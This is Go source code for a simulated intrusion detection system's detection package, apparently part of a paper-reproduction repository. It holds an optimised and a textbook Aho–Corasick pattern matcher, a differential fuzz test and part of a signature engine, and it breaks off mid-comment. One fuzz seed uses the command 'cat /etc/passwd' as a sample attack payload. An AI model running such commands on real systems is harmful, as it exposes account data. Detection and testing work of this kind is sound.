		idx := uint64(states[l]) | uint64(b)
		var v uint32
		if idx < uint64(len(dense)) {
			v = dense[idx]
		} else {
			v = m.stepSlow(int32(states[l]>>8), b)
		}
		states[l] = v >> 1
		if v&1 != 0 {
			m.collectLane(l, states[l]>>8, buf)
		}
	}
}

// collectLane records the output patterns of an accepting state into the
// lane's distinct hit list. Rare relative to byte steps, so it stays out
// of the interleaved loop's fast path.
func (m *Matcher) collectLane(l int, state uint32, buf *BatchBuf) {
	bit := uint8(1) << l
	for _, p := range m.outs(state) {
		if buf.seen[p]&bit == 0 {
			buf.seen[p] |= bit
			buf.laneHits[l] = append(buf.laneHits[l], p)
		}
	}
}
