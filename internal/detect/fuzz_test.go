package detect

import (
	"bytes"
	"testing"
)

// FuzzScanBatchEquivalence is the differential gate for the batched
// scanner: for an arbitrary pattern corpus and an arbitrary payload
// batch, ScanBatch's per-payload distinct hit sets must be identical to
// scalar ScanSetInto's, which in turn must match the quadratic NaiveScan
// reference. It also cross-checks the flattened hybrid automaton's full
// match stream (Scan) against NaiveScan, so a layout bug that shifts,
// drops, or duplicates matches cannot hide behind set semantics.
func FuzzScanBatchEquivalence(f *testing.F) {
	f.Add([]byte("\x04root\x03cat\x06passwd\x02.."), []byte("\x10cat /etc/passwd!\x00\x05root."))
	f.Add([]byte("\x01a\x02ab\x03abc\x04abcd"), []byte("\x0aabcdabcdab\x01a\x00\x03abc"))
	f.Add([]byte("\x02\x00\x01\x03\xff\xfe\xfd"), []byte("\x08\x00\x01\x00\x01\xff\xfe\xfd\x00"))
	f.Add([]byte("\x05needl\x05eedle"), bytes.Repeat([]byte("\x07needle "), 12))

	f.Fuzz(func(t *testing.T, spec, blob []byte) {
		// spec frames the corpus: length byte (1..16) then pattern bytes.
		var pats [][]byte
		for len(spec) >= 2 && len(pats) < 12 {
			n := int(spec[0])%16 + 1
			spec = spec[1:]
			if n > len(spec) {
				n = len(spec)
			}
			if n > 0 {
				pats = append(pats, spec[:n])
			}
			spec = spec[n:]
		}
		// blob frames the payload batch: length byte then payload bytes
		// (zero-length payloads included — a real batch shape).
		var payloads [][]byte
		for len(blob) >= 1 && len(payloads) < 3*batchLanes {
			n := int(blob[0])
			blob = blob[1:]
			if n > len(blob) {
				n = len(blob)
			}
			payloads = append(payloads, blob[:n])
			blob = blob[n:]
		}

		m := NewMatcher(pats)
		var bbuf BatchBuf
		m.ScanBatch(payloads, &bbuf)
		if bbuf.Len() != len(payloads) {
			t.Fatalf("ScanBatch covered %d payloads, want %d", bbuf.Len(), len(payloads))
		}
		var sbuf ScanBuf
		for i, pl := range payloads {
			got := bbuf.Hits(i)
			want := m.ScanSetInto(pl, &sbuf)
			if !equalInt32(got, want) {
				t.Fatalf("payload %d: ScanBatch %v, ScanSetInto %v", i, got, want)
			}
			naive := distinctPatterns(NaiveScan(pats, pl))
			if !equalInt32(want, naive) {
				t.Fatalf("payload %d: ScanSetInto %v, NaiveScan set %v", i, want, naive)
			}
			checkScanAgainstNaive(t, m, pats, pl)
		}
		// Buffer reuse must not leak state between batches: a second pass
		// over the same payloads yields the same answer.
		first := append([]int32(nil), bbuf.arena...)
		m.ScanBatch(payloads, &bbuf)
		if !equalInt32(first, bbuf.arena) {
			t.Fatalf("ScanBatch not idempotent under buffer reuse: %v then %v", first, bbuf.arena)
		}
	})
}

// checkScanAgainstNaive compares the automaton's full occurrence stream
// with the naive reference, order-normalized to (End, Pattern).
func checkScanAgainstNaive(t *testing.T, m *Matcher, pats [][]byte, data []byte) {
	t.Helper()
	got := m.Scan(data)
	sortMatches(got)
	want := NaiveScan(pats, data)
	if len(got) != len(want) {
		t.Fatalf("Scan found %d matches, NaiveScan %d (%v vs %v)", len(got), len(want), got, want)
	}
	for i := range got {
		if got[i] != want[i] {
			t.Fatalf("match %d: Scan %v, NaiveScan %v", i, got[i], want[i])
		}
	}
}

func sortMatches(ms []Match) {
	for i := 1; i < len(ms); i++ {
		for j := i; j > 0 && (ms[j].End < ms[j-1].End ||
			(ms[j].End == ms[j-1].End && ms[j].Pattern < ms[j-1].Pattern)); j-- {
			ms[j], ms[j-1] = ms[j-1], ms[j]
		}
	}
}

func distinctPatterns(ms []Match) []int32 {
	var out []int32
	for _, mt := range ms {
		dup := false
		for _, p := range out {
			if p == int32(mt.Pattern) {
				dup = true
				break
			}
		}
		if !dup {
			out = append(out, int32(mt.Pattern))
		}
	}
	insertionSortInt32(out)
	return out
}

func equalInt32(a, b []int32) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}
