// Package detect implements the detection engines the simulated IDS
// products are built from: a signature (misuse) engine backed by an
// Aho–Corasick multi-pattern matcher plus header and threshold rules, an
// anomaly (behaviour) engine backed by online statistical profiles, and a
// hybrid composition — the three detection-mechanism classes of Section
// 2.1 of the paper. Every engine exposes an adjustable sensitivity, the
// knob behind the paper's Figure 4 error-rate curves and the "Adjustable
// Sensitivity" architectural metric.
package detect

import "sort"

// Matcher is an Aho–Corasick automaton over byte patterns. Construction
// is O(total pattern bytes); scanning is O(input + matches) regardless of
// pattern count — the property that lets a signature sensor carry a large
// corpus at line rate.
//
// The automaton is stored in a flattened hybrid layout chosen for cache
// density rather than the textbook dense [][256] table: states are
// renumbered in BFS (depth) order, the hot shallow states — where a scan
// of realistic traffic spends almost all of its time — get fully
// fail-resolved dense 256-way rows in one contiguous array, and the long
// deep tail of the trie keeps only its explicit goto edges plus a fail
// link (classic Aho–Corasick fail-walking, amortized O(1) per byte).
// Every transition value is packed as target<<9|hasOutput: the scan
// loop learns "did a pattern end here" from the load it already did,
// and v>>1 is the target's pre-shifted dense row base (target<<8), so
// the next index is one OR away — no shift on the critical dependent
// chain. The packing bounds the automaton at 2^23 states (≈8M pattern
// bytes), far beyond any realistic rule corpus; NewMatcher enforces it.
type Matcher struct {
	// numDense is the count of BFS-leading states with dense rows; the
	// root is always dense, so fail walks from sparse states terminate.
	numDense int32
	// dense holds numDense rows of 256 packed transitions each.
	dense []uint32
	// Sparse tail states (ids >= numDense), indexed by id-numDense:
	// spFail is the fail link; spStart/spBytes/spTarget is a CSR listing
	// of explicit goto edges (bytes ascending, targets packed).
	spFail   []int32
	spStart  []int32
	spBytes  []byte
	spTarget []uint32
	// Outputs in CSR form over all states: outList[outStart[s]:outStart[s+1]]
	// are the pattern indices ending at state s (own patterns first, then
	// fail-chain inherited, preserving the classic reporting order).
	outStart []int32
	outList  []int32
	// patterns retains the compiled patterns for length lookup.
	patterns [][]byte
}

// maxDenseStates caps the dense prefix so a huge corpus cannot inflate
// the matcher back into the cache-hostile all-dense shape (1 KiB/state).
// Depth<=1 states are always dense (at most 257 of them); depth-2 states
// fill the remaining budget.
const maxDenseStates = 1024

// NewMatcher compiles the pattern set. Empty patterns are ignored.
func NewMatcher(patterns [][]byte) *Matcher {
	m := &Matcher{}

	// Phase 1: trie construction with explicit goto edges, in insertion
	// state numbering.
	edges := []map[byte]int32{{}}
	outOwn := [][]int32{nil}
	for _, pat := range patterns {
		if len(pat) == 0 {
			continue
		}
		idx := int32(len(m.patterns))
		m.patterns = append(m.patterns, pat)
		state := int32(0)
		for _, b := range pat {
			nxt, ok := edges[state][b]
			if !ok {
				nxt = int32(len(edges))
				edges = append(edges, map[byte]int32{})
				outOwn = append(outOwn, nil)
				edges[state][b] = nxt
			}
			state = nxt
		}
		outOwn[state] = append(outOwn[state], idx)
	}
	n := int32(len(edges))
	if n >= 1<<23 {
		panic("detect: pattern corpus exceeds 2^23 automaton states")
	}

	// Phase 2: BFS over bytes 0..255 (deterministic order) computing the
	// breadth-first state order, depths, fail links, and merged outputs.
	// BFS order is nondecreasing in depth, so renumbering states by BFS
	// position makes "shallow" a simple id-prefix test.
	order := make([]int32, 1, n) // order[0] = root
	depth := make([]int32, n)
	fail := make([]int32, n)
	outs := make([][]int32, n)
	outs[0] = outOwn[0]
	for qi := 0; qi < len(order); qi++ {
		s := order[qi]
		for b := 0; b < 256; b++ {
			t, ok := edges[s][byte(b)]
			if !ok {
				continue
			}
			depth[t] = depth[s] + 1
			if s == 0 {
				fail[t] = 0
			} else {
				fail[t] = resolve(edges, fail, fail[s], byte(b))
			}
			outs[t] = append(append([]int32(nil), outOwn[t]...), outs[fail[t]]...)
			if len(outs[t]) == 0 {
				outs[t] = nil
			}
			order = append(order, t)
		}
	}

	// Renumber: newID[old] = BFS position.
	newID := make([]int32, n)
	for pos, old := range order {
		newID[old] = int32(pos)
	}

	// Dense prefix: every depth<=1 state, then depth-2 states while the
	// budget lasts. The prefix test works because BFS order sorts by depth.
	numDense := int32(1)
	for pos := 1; pos < len(order); pos++ {
		d := depth[order[pos]]
		if d <= 1 || (d == 2 && pos < maxDenseStates) {
			numDense = int32(pos) + 1
			continue
		}
		break
	}
	m.numDense = numDense

	// Packed transition for target old-state t: pre-shifted row base plus
	// the output flag (v>>1 == newID<<8, the dense index of the target's
	// row).
	packed := func(t int32) uint32 {
		v := uint32(newID[t]) << 9
		if len(outs[t]) > 0 {
			v |= 1
		}
		return v
	}

	// Phase 3a: dense rows, in BFS order so a state's fail row (strictly
	// shallower, hence dense and earlier) is complete when referenced.
	m.dense = make([]uint32, int(numDense)*256)
	for pos := int32(0); pos < numDense; pos++ {
		old := order[pos]
		row := m.dense[pos*256 : pos*256+256]
		if pos == 0 {
			for b := 0; b < 256; b++ {
				if t, ok := edges[old][byte(b)]; ok {
					row[b] = packed(t)
				} // else stay at root: packed(0) == 0
			}
			continue
		}
		failRow := m.dense[newID[fail[old]]*256:][:256]
		for b := 0; b < 256; b++ {
			if t, ok := edges[old][byte(b)]; ok {
				row[b] = packed(t)
			} else {
				row[b] = failRow[b]
			}
		}
	}

	// Phase 3b: sparse tail — explicit edges only, bytes ascending.
	numSparse := n - numDense
	m.spFail = make([]int32, numSparse)
	m.spStart = make([]int32, numSparse+1)
	for pos := numDense; pos < n; pos++ {
		old := order[pos]
		si := pos - numDense
		m.spFail[si] = newID[fail[old]]
		for b := 0; b < 256; b++ {
			if t, ok := edges[old][byte(b)]; ok {
				m.spBytes = append(m.spBytes, byte(b))
				m.spTarget = append(m.spTarget, packed(t))
			}
		}
		m.spStart[si+1] = int32(len(m.spBytes))
	}

	// Phase 3c: outputs CSR in new numbering.
	m.outStart = make([]int32, n+1)
	total := 0
	for pos := int32(0); pos < n; pos++ {
		total += len(outs[order[pos]])
	}
	m.outList = make([]int32, 0, total)
	for pos := int32(0); pos < n; pos++ {
		m.outList = append(m.outList, outs[order[pos]]...)
		m.outStart[pos+1] = int32(len(m.outList))
	}
	return m
}

// resolve follows fail links in the (old-numbered) trie until state has a
// goto edge on b, returning that edge's target (root if none).
func resolve(edges []map[byte]int32, fail []int32, state int32, b byte) int32 {
	for {
		if t, ok := edges[state][b]; ok {
			return t
		}
		if state == 0 {
			return 0
		}
		state = fail[state]
	}
}

// stepSlow is the sparse-tail transition: look up an explicit edge on the
// current state, walking fail links (strictly decreasing depth, ending at
// a dense state) on a miss. Returns the packed transition value.
func (m *Matcher) stepSlow(state int32, b byte) uint32 {
	for {
		if state < m.numDense {
			return m.dense[uint32(state)<<8|uint32(b)]
		}
		si := state - m.numDense
		end := m.spStart[si+1]
		for j := m.spStart[si]; j < end; j++ {
			if m.spBytes[j] == b {
				return m.spTarget[j]
			}
		}
		state = m.spFail[si]
	}
}

// outs returns the pattern indices ending at state.
func (m *Matcher) outs(state uint32) []int32 {
	return m.outList[m.outStart[state]:m.outStart[state+1]]
}

// NumStates reports the automaton's state count (dense + sparse).
func (m *Matcher) NumStates() int { return int(m.numDense) + len(m.spFail) }

// NumDenseStates reports how many states carry dense 256-way rows.
func (m *Matcher) NumDenseStates() int { return int(m.numDense) }

// StateBytes reports the resident size of the compiled transition and
// output tables plus retained pattern bytes — the footprint the
// matcher-cache gauges publish. Slice headers and the struct itself are
// excluded (fixed small overhead).
func (m *Matcher) StateBytes() int {
	b := len(m.dense)*4 + len(m.spFail)*4 + len(m.spStart)*4 +
		len(m.spBytes) + len(m.spTarget)*4 +
		len(m.outStart)*4 + len(m.outList)*4
	for _, p := range m.patterns {
		b += len(p)
	}
	return b
}

// Match is one pattern occurrence in the scanned input.
type Match struct {
	// Pattern is the index into the compiled pattern set.
	Pattern int
	// End is the offset one past the match's final byte.
	End int
}

// Scan returns every pattern occurrence in data, in end-offset order.
// The loop tracks the pre-shifted row base (state<<8) rather than the
// state id: the packed transition load yields it directly (v>>1), so the
// dependent chain per byte is load → shift → or → load.
func (m *Matcher) Scan(data []byte) []Match {
	var out []Match
	row := uint32(0)
	dense := m.dense
	for i := 0; i < len(data); i++ {
		idx := uint64(row) | uint64(data[i])
		var v uint32
		if idx < uint64(len(dense)) {
			v = dense[idx]
		} else {
			v = m.stepSlow(int32(row>>8), data[i])
		}
		row = v >> 1
		if v&1 != 0 {
			for _, p := range m.outs(row >> 8) {
				out = append(out, Match{Pattern: int(p), End: i + 1})
			}
		}
	}
	return out
}

// Contains reports whether any pattern occurs in data, without
// materializing matches — the hot path for a boolean sensor verdict.
func (m *Matcher) Contains(data []byte) bool {
	row := uint32(0)
	dense := m.dense
	for i := 0; i < len(data); i++ {
		idx := uint64(row) | uint64(data[i])
		var v uint32
		if idx < uint64(len(dense)) {
			v = dense[idx]
		} else {
			v = m.stepSlow(int32(row>>8), data[i])
		}
		if v&1 != 0 {
			return true
		}
		row = v >> 1
	}
	return false
}

// ScanSet returns the sorted distinct pattern indices occurring in data.
func (m *Matcher) ScanSet(data []byte) []int {
	seen := make(map[int]bool)
	row := uint32(0)
	for i := 0; i < len(data); i++ {
		v := m.step(row, data[i])
		row = v >> 1
		if v&1 != 0 {
			for _, p := range m.outs(row >> 8) {
				seen[int(p)] = true
			}
		}
	}
	out := make([]int, 0, len(seen))
	for p := range seen {
		out = append(out, p)
	}
	sort.Ints(out)
	return out
}

// step is the uninlined-path transition used by the cold scanners; row is
// the current state's pre-shifted row base (state<<8).
func (m *Matcher) step(row uint32, b byte) uint32 {
	idx := uint64(row) | uint64(b)
	if idx < uint64(len(m.dense)) {
		return m.dense[idx]
	}
	return m.stepSlow(int32(row>>8), b)
}

// ScanBuf is caller-owned scratch for ScanSetInto: a per-pattern seen
// bitmap plus the result list. One ScanBuf per inspecting goroutine
// lets many engines share a single immutable Matcher with zero
// per-packet allocation; the buffers grow once and are reused.
type ScanBuf struct {
	seen []bool
	hits []int32
}

// ScanSetInto is the allocation-free form of ScanSet: it returns the
// sorted distinct pattern indices occurring in data, using buf for all
// working state. The returned slice aliases buf and is valid until the
// next call with the same buf.
func (m *Matcher) ScanSetInto(data []byte, buf *ScanBuf) []int32 {
	if len(buf.seen) < len(m.patterns) {
		buf.seen = make([]bool, len(m.patterns))
	}
	hits := buf.hits[:0]
	row := uint32(0)
	dense := m.dense
	for i := 0; i < len(data); i++ {
		idx := uint64(row) | uint64(data[i])
		var v uint32
		if idx < uint64(len(dense)) {
			v = dense[idx]
		} else {
			v = m.stepSlow(int32(row>>8), data[i])
		}
		row = v >> 1
		if v&1 != 0 {
			for _, p := range m.outs(row >> 8) {
				if !buf.seen[p] {
					buf.seen[p] = true
					hits = append(hits, p)
				}
			}
		}
	}
	// Reset the bitmap by walking only the touched entries, then restore
	// ScanSet's ascending order with an in-place insertion sort (the hit
	// set is tiny — bounded by the corpus size).
	for _, p := range hits {
		buf.seen[p] = false
	}
	insertionSortInt32(hits)
	buf.hits = hits
	return hits
}

// insertionSortInt32 sorts tiny hit lists without sort.Slice's funcval
// overhead or allocation.
func insertionSortInt32(s []int32) {
	for i := 1; i < len(s); i++ {
		for j := i; j > 0 && s[j] < s[j-1]; j-- {
			s[j], s[j-1] = s[j-1], s[j]
		}
	}
}

// NumPatterns returns how many non-empty patterns were compiled.
func (m *Matcher) NumPatterns() int { return len(m.patterns) }

// Pattern returns the compiled pattern at index i.
func (m *Matcher) Pattern(i int) []byte { return m.patterns[i] }

// NaiveScan is the baseline the Aho–Corasick ablation benchmark compares
// against: scan each pattern independently with quadratic-ish substring
// search.
func NaiveScan(patterns [][]byte, data []byte) []Match {
	var out []Match
	for pi, pat := range patterns {
		if len(pat) == 0 {
			continue
		}
		for i := 0; i+len(pat) <= len(data); i++ {
			matched := true
			for j := range pat {
				if data[i+j] != pat[j] {
					matched = false
					break
				}
			}
			if matched {
				out = append(out, Match{Pattern: pi, End: i + len(pat)})
			}
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].End != out[j].End {
			return out[i].End < out[j].End
		}
		return out[i].Pattern < out[j].Pattern
	})
	return out
}
