// Package detect implements the detection engines the simulated IDS
// products are built from: a signature (misuse) engine backed by an
// Aho–Corasick multi-pattern matcher plus header and threshold rules, an
// anomaly (behaviour) engine backed by online statistical profiles, and a
// hybrid composition — the three detection-mechanism classes of Section
// 2.1 of the paper. Every engine exposes an adjustable sensitivity, the
// knob behind the paper's Figure 4 error-rate curves and the "Adjustable
// Sensitivity" architectural metric.
package detect

import "sort"

// Matcher is an Aho–Corasick automaton over byte patterns. Construction
// is O(total pattern bytes); scanning is O(input + matches) regardless of
// pattern count — the property that lets a signature sensor carry a large
// corpus at line rate.
type Matcher struct {
	// next[state][b] is the goto/fail-resolved transition table.
	next [][256]int32
	// outputs[state] lists pattern indices ending at state.
	outputs [][]int32
	// patterns retains the compiled patterns for length lookup.
	patterns [][]byte
}

// NewMatcher compiles the pattern set. Empty patterns are ignored.
func NewMatcher(patterns [][]byte) *Matcher {
	m := &Matcher{}
	m.next = append(m.next, [256]int32{})
	m.outputs = append(m.outputs, nil)

	// Phase 1: trie construction with explicit goto edges; absent edges
	// are resolved into fail transitions in phase 2.
	edges := []map[byte]int32{{}}
	for _, pat := range patterns {
		if len(pat) == 0 {
			continue
		}
		idx := int32(len(m.patterns))
		m.patterns = append(m.patterns, pat)
		state := int32(0)
		for _, b := range pat {
			nxt, ok := edges[state][b]
			if !ok {
				nxt = int32(len(m.next))
				m.next = append(m.next, [256]int32{})
				m.outputs = append(m.outputs, nil)
				edges = append(edges, map[byte]int32{})
				edges[state][b] = nxt
			}
			state = nxt
		}
		m.outputs[state] = append(m.outputs[state], idx)
	}

	// Phase 2: BFS fail links, flattening into a dense transition table.
	fail := make([]int32, len(m.next))
	queue := make([]int32, 0, len(m.next))
	for b := 0; b < 256; b++ {
		if s, ok := edges[0][byte(b)]; ok {
			m.next[0][b] = s
			queue = append(queue, s)
		}
	}
	for qi := 0; qi < len(queue); qi++ {
		s := queue[qi]
		f := fail[s]
		m.outputs[s] = append(m.outputs[s], m.outputs[f]...)
		for b := 0; b < 256; b++ {
			if t, ok := edges[s][byte(b)]; ok {
				fail[t] = m.next[f][b]
				m.next[s][b] = t
				queue = append(queue, t)
			} else {
				m.next[s][b] = m.next[f][b]
			}
		}
	}
	return m
}

// Match is one pattern occurrence in the scanned input.
type Match struct {
	// Pattern is the index into the compiled pattern set.
	Pattern int
	// End is the offset one past the match's final byte.
	End int
}

// Scan returns every pattern occurrence in data, in end-offset order.
func (m *Matcher) Scan(data []byte) []Match {
	var out []Match
	state := int32(0)
	for i, b := range data {
		state = m.next[state][b]
		for _, p := range m.outputs[state] {
			out = append(out, Match{Pattern: int(p), End: i + 1})
		}
	}
	return out
}

// Contains reports whether any pattern occurs in data, without
// materializing matches — the hot path for a boolean sensor verdict.
func (m *Matcher) Contains(data []byte) bool {
	state := int32(0)
	for _, b := range data {
		state = m.next[state][b]
		if len(m.outputs[state]) > 0 {
			return true
		}
	}
	return false
}

// ScanSet returns the sorted distinct pattern indices occurring in data.
func (m *Matcher) ScanSet(data []byte) []int {
	seen := make(map[int]bool)
	state := int32(0)
	for _, b := range data {
		state = m.next[state][b]
		for _, p := range m.outputs[state] {
			seen[int(p)] = true
		}
	}
	out := make([]int, 0, len(seen))
	for p := range seen {
		out = append(out, p)
	}
	sort.Ints(out)
	return out
}

// ScanBuf is caller-owned scratch for ScanSetInto: a per-pattern seen
// bitmap plus the result list. One ScanBuf per inspecting goroutine
// lets many engines share a single immutable Matcher with zero
// per-packet allocation; the buffers grow once and are reused.
type ScanBuf struct {
	seen []bool
	hits []int32
}

// ScanSetInto is the allocation-free form of ScanSet: it returns the
// sorted distinct pattern indices occurring in data, using buf for all
// working state. The returned slice aliases buf and is valid until the
// next call with the same buf.
func (m *Matcher) ScanSetInto(data []byte, buf *ScanBuf) []int32 {
	if len(buf.seen) < len(m.patterns) {
		buf.seen = make([]bool, len(m.patterns))
	}
	hits := buf.hits[:0]
	state := int32(0)
	for _, b := range data {
		state = m.next[state][b]
		for _, p := range m.outputs[state] {
			if !buf.seen[p] {
				buf.seen[p] = true
				hits = append(hits, p)
			}
		}
	}
	// Reset the bitmap by walking only the touched entries, then restore
	// ScanSet's ascending order with an in-place insertion sort (the hit
	// set is tiny — bounded by the corpus size).
	for _, p := range hits {
		buf.seen[p] = false
	}
	for i := 1; i < len(hits); i++ {
		for j := i; j > 0 && hits[j] < hits[j-1]; j-- {
			hits[j], hits[j-1] = hits[j-1], hits[j]
		}
	}
	buf.hits = hits
	return hits
}

// NumPatterns returns how many non-empty patterns were compiled.
func (m *Matcher) NumPatterns() int { return len(m.patterns) }

// Pattern returns the compiled pattern at index i.
func (m *Matcher) Pattern(i int) []byte { return m.patterns[i] }

// NaiveScan is the baseline the Aho–Corasick ablation benchmark compares
// against: scan each pattern independently with quadratic-ish substring
// search.
func NaiveScan(patterns [][]byte, data []byte) []Match {
	var out []Match
	for pi, pat := range patterns {
		if len(pat) == 0 {
			continue
		}
		for i := 0; i+len(pat) <= len(data); i++ {
			matched := true
			for j := range pat {
				if data[i+j] != pat[j] {
					matched = false
					break
				}
			}
			if matched {
				out = append(out, Match{Pattern: pi, End: i + len(pat)})
			}
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].End != out[j].End {
			return out[i].End < out[j].End
		}
		return out[i].Pattern < out[j].Pattern
	})
	return out
}
