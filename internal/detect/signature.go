package detect

import (
	"bytes"
	"fmt"
	"time"

	"repro/internal/packet"
)

// ContentRule matches a byte pattern in packet payloads.
type ContentRule struct {
	// Name is the rule identifier.
	Name string
	// Technique is the attack class the rule indicates.
	Technique string
	// Pattern is the payload substring.
	Pattern []byte
	// Severity in [0,1] assigned to resulting alerts.
	Severity float64
	// Fidelity in [0,1]: how specific the pattern is to real attacks.
	// A rule is active when Fidelity >= 1 - sensitivity, so raising
	// sensitivity switches on progressively noisier rules — the mechanism
	// that produces the Type-I side of the Figure-4 curves.
	Fidelity float64
}

// ThresholdKey selects what a threshold rule counts per.
type ThresholdKey int

// Threshold keying modes.
const (
	// KeyBySrc counts per source address.
	KeyBySrc ThresholdKey = iota
	// KeyByPair counts per (src,dst) pair.
	KeyByPair
	// KeyByDst counts per destination address.
	KeyByDst
)

// ThresholdRule raises an alert when a predicate fires more than a
// threshold number of times (or across a threshold number of distinct
// destination ports) within a tumbling window.
type ThresholdRule struct {
	Name      string
	Technique string
	Key       ThresholdKey
	// Window is the counting window.
	Window time.Duration
	// BaseCount is the firing threshold at sensitivity 0.5; the effective
	// threshold scales as BaseCount·(1.5−s).
	BaseCount int
	// DistinctPorts counts distinct destination ports instead of raw hits.
	DistinctPorts bool
	Severity      float64
	// Match selects which packets the rule counts.
	Match func(p *packet.Packet) bool
}

// thresholdState is a sliding-window counter: hits are timestamped and
// pruned as the window advances, so a burst is never split by an
// arbitrary window boundary (which a tumbling counter would do).
type thresholdState struct {
	hits  []thresholdHit
	ports map[uint16]int // port -> live hit count, for DistinctPorts rules
}

type thresholdHit struct {
	at   time.Duration
	port uint16
}

// prune discards hits older than window.
func (st *thresholdState) prune(now, window time.Duration) {
	i := 0
	for i < len(st.hits) && now-st.hits[i].at > window {
		if st.ports != nil {
			h := st.hits[i]
			if st.ports[h.port]--; st.ports[h.port] <= 0 {
				delete(st.ports, h.port)
			}
		}
		i++
	}
	if i > 0 {
		st.hits = append(st.hits[:0], st.hits[i:]...)
	}
}

// add records a hit and returns the current rule count.
func (st *thresholdState) add(now time.Duration, port uint16, distinct bool) int {
	st.hits = append(st.hits, thresholdHit{at: now, port: port})
	if distinct {
		st.ports[port]++
		return len(st.ports)
	}
	return len(st.hits)
}

// reset clears the window after a fire so a sustained attack re-alerts
// once per window rather than per packet.
func (st *thresholdState) reset() {
	st.hits = st.hits[:0]
	if st.ports != nil {
		clear(st.ports)
	}
}

// suppressKey identifies one (rule, scope) alert stream. It replaces
// the formatted string keys the suppress map used to be indexed by,
// removing the fmt.Sprintf allocation from every candidate match.
type suppressKey struct {
	threshold bool
	rule      int32 // index into rules or thresholds
	scope     uint64
}

func contentSuppressKey(rule int, p *packet.Packet) suppressKey {
	return suppressKey{rule: int32(rule), scope: uint64(p.Src)<<32 | uint64(p.Dst)}
}

func thresholdSuppressKey(rule int, counter uint64) suppressKey {
	return suppressKey{threshold: true, rule: int32(rule), scope: counter}
}

// hashSuppressKey spreads (rule, scope) streams across the suppress
// table's shards.
func hashSuppressKey(k suppressKey) uint64 {
	h := k.scope ^ uint64(uint32(k.rule))*0x9e3779b97f4a7c15
	if k.threshold {
		h ^= 0xd6e8feb86659fd93
	}
	return hashU64(h)
}

// SignatureEngine is a misuse detector: payload patterns via Aho–Corasick
// plus stateful threshold rules for scans, floods, and repeated failures.
// It detects only what its corpus describes — the paper's core criticism
// of pure signature systems ("will only detect previously known attacks").
type SignatureEngine struct {
	rules []ContentRule
	// matcher is compiled over ALL rules (activation filtered at alert
	// time) and comes from the process-wide compiled-artifact cache: it
	// is immutable and typically shared with every other engine built
	// from the same corpus. Per-engine scan state lives in scanBuf.
	matcher *Matcher
	scanBuf ScanBuf
	// reasons[i] is rules[i]'s alert Reason, formatted once at
	// construction instead of on every match.
	reasons     []string
	thresholds  []ThresholdRule
	sensitivity float64

	// suppress deduplicates repeated fires of the same (rule, scope),
	// held in fixed-shard open-addressing tables to keep the
	// per-candidate-match lookup off the runtime-map slow path.
	suppress *shardedMap[suppressKey, time.Duration]
	// SuppressWindow is the per-(rule,scope) alert holdoff.
	SuppressWindow time.Duration
	// lastPrune bounds how often expired suppress/threshold state is
	// swept; without the sweep both tables grow without bound on long
	// replays (one entry per distinct flow ever seen).
	lastPrune time.Duration

	// thState[i] holds rule i's per-key sliding-window counters; drained
	// states are recycled through thFree so steady-state threshold
	// tracking allocates nothing.
	thState []*shardedMap[uint64, *thresholdState]
	thFree  []*thresholdState

	// batch memoizes the most recent PrescanBatch's per-payload match
	// sets for InspectPrescanned (see Prescanning).
	batch BatchBuf
	// PrescanBatches/PrescanPackets count batched-scan usage.
	PrescanBatches uint64
	PrescanPackets uint64

	// reassembler, when non-nil, joins each packet's payload with its
	// flow's retained tail so signatures split across TCP segments still
	// match (see Reassembler).
	reassembler *Reassembler

	// Inspected counts packets analyzed.
	Inspected uint64
}

// NewSignatureEngine builds an engine over the given rule sets at
// sensitivity 0.5.
func NewSignatureEngine(rules []ContentRule, thresholds []ThresholdRule) *SignatureEngine {
	pats := make([][]byte, len(rules))
	for i, r := range rules {
		pats[i] = r.Pattern
	}
	e := &SignatureEngine{
		rules:          rules,
		matcher:        CachedMatcher(pats),
		reasons:        make([]string, len(rules)),
		thresholds:     thresholds,
		sensitivity:    0.5,
		suppress:       newShardedMap[suppressKey, time.Duration](hashSuppressKey),
		SuppressWindow: 2 * time.Second,
		thState:        make([]*shardedMap[uint64, *thresholdState], len(thresholds)),
	}
	for i, r := range rules {
		e.reasons[i] = fmt.Sprintf("signature %q matched", r.Name)
	}
	for i := range e.thState {
		e.thState[i] = newShardedMap[uint64, *thresholdState](hashU64)
	}
	return e
}

// EnableReassembly turns on cross-segment content matching. The retained
// tail is sized to the longest pattern in the corpus.
func (e *SignatureEngine) EnableReassembly() {
	e.reassembler = NewReassembler(longestPattern(e.rules) - 1)
}

// Reassembling reports whether cross-segment matching is enabled.
func (e *SignatureEngine) Reassembling() bool { return e.reassembler != nil }

// Name implements Engine.
func (e *SignatureEngine) Name() string { return "signature" }

// Mechanism implements Engine.
func (e *SignatureEngine) Mechanism() Mechanism { return MechanismSignature }

// Train implements Engine; signature engines do not learn.
func (e *SignatureEngine) Train(p *packet.Packet, now time.Duration) {}

// SetSensitivity implements Engine.
func (e *SignatureEngine) SetSensitivity(s float64) error {
	v, err := clampSensitivity(s)
	if err != nil {
		return err
	}
	e.sensitivity = v
	return nil
}

// Sensitivity implements Engine.
func (e *SignatureEngine) Sensitivity() float64 { return e.sensitivity }

// CostPerPacket implements Engine: a fixed header-rule cost plus a
// per-byte payload scanning cost; stream reassembly adds flow-table
// bookkeeping per packet.
func (e *SignatureEngine) CostPerPacket(p *packet.Packet) time.Duration {
	cost := 12*time.Microsecond + time.Duration(len(p.Payload))*16*time.Nanosecond
	if e.reassembler != nil {
		cost += 2 * time.Microsecond
	}
	return cost
}

// thresholdEffective returns the sensitivity-scaled firing threshold.
func (e *SignatureEngine) thresholdEffective(base int) int {
	t := int(float64(base) * (1.5 - e.sensitivity))
	if t < 1 {
		t = 1
	}
	return t
}

// keyFor computes a rule's counter key for a packet.
func keyFor(k ThresholdKey, p *packet.Packet) uint64 {
	switch k {
	case KeyBySrc:
		return uint64(p.Src)
	case KeyByDst:
		return uint64(p.Dst)
	default:
		return uint64(p.Src)<<32 | uint64(p.Dst)
	}
}

// suppressed checks and arms the alert holdoff for key.
func (e *SignatureEngine) suppressed(key suppressKey, now time.Duration) bool {
	last, found := e.suppress.Put(key)
	if found && now-*last < e.SuppressWindow {
		return true
	}
	*last = now
	return false
}

// maybePrune sweeps expired suppress entries and drained threshold
// counters, amortized to at most one sweep per suppress window. Entries
// are deleted exactly when the inspection path would already treat them
// as expired, so pruning never changes detection behaviour — it only
// caps the tables at the live working set instead of every flow ever
